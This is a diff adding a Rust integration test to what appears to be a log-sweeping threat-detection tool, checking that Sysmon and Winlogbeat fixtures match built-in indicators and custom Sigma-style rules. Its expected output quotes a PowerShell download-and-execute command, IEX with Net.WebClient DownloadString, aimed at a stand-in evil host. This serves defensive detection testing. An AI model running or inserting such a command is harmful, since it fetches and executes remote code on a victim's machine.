@@ -47,6 +47,51 @@ fn the_example_tells_its_story() {
 }
 
 #[test]
+fn events_meet_the_rules_over_events() {
+    let folder = tempfile::tempdir().unwrap();
+    let (state, tree) = (folder.path().join("state"), folder.path().join("logs"));
+    fs::create_dir(&tree).unwrap();
+    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../observe/src/formats");
+    fs::copy(fixtures.join("evtx/fixtures/sysmon.evtx"), tree.join("sysmon.evtx")).unwrap();
+    fs::copy(fixtures.join("event_json/fixtures/winlogbeat.jsonl"), tree.join("beats.jsonl")).unwrap();
+    let tree = tree.display().to_string();
+    let events = |arguments: &[&str]| -> Vec<String> {
+        let run = sweep(&state, arguments);
+        let met = run.of("sighting").into_iter().filter(|line| line["observable"]["type"] == "event");
+        let words = met.map(|line| {
+            let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
+            [&line["indicator"]["name"], &line["observable"]["value"], &line["exposure"], &line["excerpt"]]
+                .map(text)
+                .join(" | ")
+        });
+        words.collect()
+    };
+    let script = "PowerShell script downloads and runs code | Microsoft-Windows-PowerShell 4104 | executed | \
+                  ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://ps.evil.example/x')";
+    assert_eq!(events(&[&tree]), [script]);
+    let rule = |id: &str, field: &str| {
+        format!(
+            "title: Ours {id}\nid: 6ba7b810-9dad-11d1-80b4-00c04fd4300{id}\nlogsource:\n  product: windows\n  \
+             category: process_creation\ndetection:\n  s:\n    {field}\n  condition: s\nlevel: low\n"
+        )
+    };
+    let rules = folder.path().join("rules.yml");
+    let named = rules.display().to_string();
+    fs::write(&rules, rule("1", "Image|endswith: '\\z.exe'")).unwrap();
+    let met = events(&[&tree, "--intel", &named]);
+    assert!(met.iter().any(|one| one.starts_with("Ours 1 | Microsoft-Windows-Sysmon 1 | executed")), "{met:?}");
+    assert!(met.iter().any(|one| one == script), "{met:?}");
+    // Files that did not change are read again when only such a rule did, and one that cannot be evaluated is said.
+    fs::write(&rules, [rule("2", "ParentImage|contains: winword"), rule("3", "Image|re: '(?=x)'")].join("---\n"))
+        .unwrap();
+    let met = events(&[&tree, "--intel", &named]);
+    assert!(met.iter().any(|one| one.starts_with("Ours 2 | Microsoft-Windows-Sysmon 1 | executed")), "{met:?}");
+    let run = vauban(&state, &["sweep", &tree, "--intel", &named]);
+    let told = String::from_utf8(run.stderr).unwrap();
+    assert!(told.contains("1 indicator rows or rules refused"), "{told}");
+}
+
+#[test]
 fn every_input_is_accounted_for() {
     let folder = tempfile::tempdir().unwrap();
     let tree = folder.path().join("tree");
